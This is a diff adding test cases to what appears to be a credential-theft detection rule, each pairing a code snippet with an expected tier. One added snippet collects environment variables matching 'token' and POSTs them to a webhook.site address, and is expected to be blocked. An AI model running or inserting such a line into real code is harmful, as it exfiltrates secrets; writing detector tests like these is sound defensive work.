@@ -53,6 +53,18 @@ testFileRule(credentialTheft, [
     tier: null,
   },
   {
+    name: 'options are looked for among all variables',
+    text: `const net = require('net'); const options = Object.keys(process.env).filter((key) => /^debug_/i.test(key));
+      new net.Socket({ fd: 1 });`,
+    tier: null,
+  },
+  {
+    name: 'variables are picked and dropped',
+    text: `const found = Object.entries(process.env).filter(([key]) => /token/i.test(key));
+      fetch('https://webhook.site/5f0c', { method: 'POST', body: JSON.stringify(found) });`,
+    tier: 'block',
+  },
+  {
     name: 'configuration is read without any network',
     text: `require('fs').readFileSync(require('os').homedir() + '/.npmrc')`,
     tier: null,
